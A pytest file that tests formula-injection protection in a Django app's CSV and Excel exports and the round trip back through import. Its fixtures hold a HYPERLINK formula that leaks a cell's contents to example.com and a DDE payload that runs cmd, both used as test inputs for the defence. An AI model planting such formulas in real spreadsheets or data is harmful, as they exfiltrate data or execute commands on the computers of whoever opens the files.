"""No export carries a live formula: text beginning with =, +, -, @, a tab or a carriage return is written with a
leading apostrophe in every CSV and Excel download (the export page, the plan list, the overview, the admin's
export and the whole-plan workbook), numbers stay numbers, and an import reads back exactly what was exported."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from funding.models import INPUT_ROWS, BudgetEntry, BudgetTable
from indicators.models import IndicatorValue
from monitoring.spreadsheets import files, imports, workbook
from plans.models import Plan
from plans.sheets.formulas import neutralise, restore
from tests.cycle_builders import make_cycle, submit_everything

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"Click for details")'
DDE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
# Text a person might write that a spreadsheet would otherwise take for a formula, and text already quoted.
TRICKY = ["=1+1", "+44 20 7946 0000", "- see the note", "@home", "\t=1+1", "'=already quoted", "''=twice",
          "'plain apostrophe", "-3.2", "-", "plain"]


@pytest.fixture
def c():
    """NI 152 with a hyperlink in a value's commentary, a title a spreadsheet would run, and a budget saving (the
    one figure of a plan that may be negative: indicator values, funding and targets never are)."""
    cycle = submit_everything(make_cycle())
    IndicatorValue.objects.filter(indicator=cycle.ni152, period=cycle.round.period).update(commentary=HYPERLINK)
    Plan.objects.filter(pk=cycle.plan.pk).update(title=DDE_TITLE)
    table = BudgetTable.objects.create(plan=cycle.plan)
    BudgetEntry.objects.create(table=table, row=INPUT_ROWS[0].value, year=2008, amount=Decimal(-320))
    return cycle


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def csv_cell(content: bytes, heading: str, *row_with: str) -> str:
    """Return the cell under the heading in the first row holding every one of `row_with`."""
    rows = csv_rows(content)
    row = next(row for row in rows[1:] if set(row_with) <= set(row))
    return row[rows[0].index(heading)]


def xlsx_cell(content: bytes, heading: str, *row_with: str, sheet: str | None = None):
    book = openpyxl.load_workbook(io.BytesIO(content))
    worksheet = book[sheet] if sheet else book.worksheets[0]
    rows = list(worksheet.iter_rows())
    headings = [cell.value for cell in rows[0]]
    row = next(row for row in rows[1:] if set(row_with) <= {cell.value for cell in row})
    return row[headings.index(heading)]


# --- the rule ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "written"), [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("- see the note", "'- see the note"),
    ("@home", "'@home"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-", "'-"),
    ("'=already quoted", "''=already quoted"), ("''=twice", "'''=twice"),
    ("-3.2", "-3.2"), ("+3", "+3"), ("-1,250.5", "-1,250.5"), ("-12%", "-12%"),
    ("'plain apostrophe", "'plain apostrophe"), ("plain", "plain"), ("", ""),
    (Decimal("-3.2"), Decimal("-3.2")), (-3, -3), (None, None),
])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_do_not(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


# --- every download ------------------------------------------------------------------------------------------


def test_the_values_csv_quotes_the_hyperlink(client, c):
    client.force_login(c["viewer"])
    content = client.get(reverse("export"), {"what": "values", "format": "csv"}).content

    assert csv_cell(content, "Commentary", "NI 152", "2008/09-Q1") == "'" + HYPERLINK
    assert csv_cell(content, "Value", "NI 152", "2008/09-Q1") == "14.5"


def test_the_values_workbook_quotes_the_hyperlink(client, c):
    client.force_login(c["viewer"])
    content = client.get(reverse("export"), {"what": "values", "format": "xlsx"}).content

    commentary = xlsx_cell(content, "Commentary", "NI 152", "2008/09-Q1")
    value = xlsx_cell(content, "Value", "NI 152", "2008/09-Q1")
    assert (commentary.value, commentary.data_type) == ("'" + HYPERLINK, "s")
    assert (value.value, value.data_type) == (pytest.approx(14.5), "n")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_negative_number_is_written_as_a_number_not_quoted_text(fmt):
    rows = [["Saving", Decimal("-3.2")], ["Text that looks like a number", "-3.2"]]
    if fmt == "csv":
        assert csv_rows(files.write_csv(["Row", "Amount"], rows))[1:] == [["Saving", "-3.2"],
                                                                        ["Text that looks like a number", "-3.2"]]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(files.write_xlsx([files.Sheet("Budget", ["Row", "Amount"], rows)])))
        number, text = sheet.active["B2"], sheet.active["B3"]
        assert (number.value, number.data_type) == (pytest.approx(-3.2), "n")
        assert (text.value, text.data_type) == ("-3.2", "s")


@pytest.mark.parametrize("page", ["plan_list", "dashboard_overview"])
def test_the_table_downloads_quote_plan_text(client, c, page):
    client.force_login(c["viewer"])

    as_csv = client.get(reverse(page), {"_export": "csv"}).content
    as_xlsx = client.get(reverse(page), {"_export": "xlsx"}).content

    assert csv_cell(as_csv, "Title", "NI 152") == "'" + DDE_TITLE
    title = xlsx_cell(as_xlsx, "Title", "NI 152")
    assert (title.value, title.data_type) == ("'" + DDE_TITLE, "s")


def test_the_overview_download_keeps_its_figures_numbers(client, c):
    client.force_login(c["viewer"])

    as_csv = client.get(reverse("dashboard_overview"), {"_export": "csv"}).content
    as_xlsx = client.get(reverse("dashboard_overview"), {"_export": "xlsx"}).content

    assert csv_cell(as_csv, "Latest value", "NI 152") == "14.5"
    value = xlsx_cell(as_xlsx, "Latest value", "NI 152")
    assert (value.value, value.data_type) == (pytest.approx(14.5), "n")


@pytest.mark.parametrize(("fmt", "read"), [("0", "xlsx"), ("1", "csv")])
def test_the_admin_export_quotes_the_hyperlink(client, c, admin_user, fmt, read):
    client.force_login(admin_user)

    content = client.post(reverse("admin:indicators_indicatorvalue_export"), {"format": fmt}).content

    if read == "csv":
        assert csv_cell(content, "Commentary", "NI 152", "2008/09-Q1") == "'" + HYPERLINK
        assert csv_cell(content, "Value", "NI 152", "2008/09-Q1") == "14.5000"  # tablib writes str(Decimal)
    else:
        commentary = xlsx_cell(content, "Commentary", "NI 152", "2008/09-Q1")
        assert (commentary.value, commentary.data_type) == ("'" + HYPERLINK, "s")
        assert xlsx_cell(content, "Value", "NI 152", "2008/09-Q1").data_type == "n"


def test_the_whole_plan_workbook_quotes_plan_text_and_values(client, c):
    client.force_login(c["viewer"])

    content = client.get(reverse("plan_workbook", args=[c.plan.pk])).content

    assert xlsx_cell(content, "Title", "NI 152", sheet="Plan").value == "'" + DDE_TITLE
    assert xlsx_cell(content, "Commentary", "NI 152", "2008/09-Q1", sheet="Values").value == "'" + HYPERLINK
    saving = xlsx_cell(content, "Amount", "NI 152", sheet="Budget entries")
    assert (saving.value, saving.data_type) == (-320, "n")


# --- and back ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_file_reads_back_exactly_what_was_written(fmt):
    rows = [[text, Decimal("-3.2")] for text in TRICKY]
    content = (files.write_csv(["Text", "Number"], rows) if fmt == "csv"
               else files.write_xlsx([files.Sheet("Sheet", ["Text", "Number"], rows)]))

    _, tables = files.read_file(content)

    assert tables[0].rows == [[text, "-3.2"] for text in TRICKY]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_values_import_back_unchanged(client, c, fmt):
    client.force_login(c["viewer"])
    content = client.get(reverse("export"), {"what": "values", "plan": c.plan.pk, "format": fmt}).content

    outcome = imports.import_file(kind="values", content=content, file_name=f"back.{fmt}", user=None, apply=False)

    assert outcome.ok, [str(problem) for problem in outcome.problems]
    assert outcome.unchanged == outcome.rows > 0


def test_a_whole_plan_with_formula_like_text_imports_over_itself_unchanged(c):
    content = workbook.export_workbook(Plan.objects.get(pk=c.plan.pk))

    outcome = workbook.import_workbook(content=content, file_name="plan.xlsx", user=None, apply=False)

    assert outcome.ok, [str(problem) for problem in outcome.problems]
    assert (outcome.new, outcome.changed) == (0, 0) and outcome.unchanged == outcome.rows
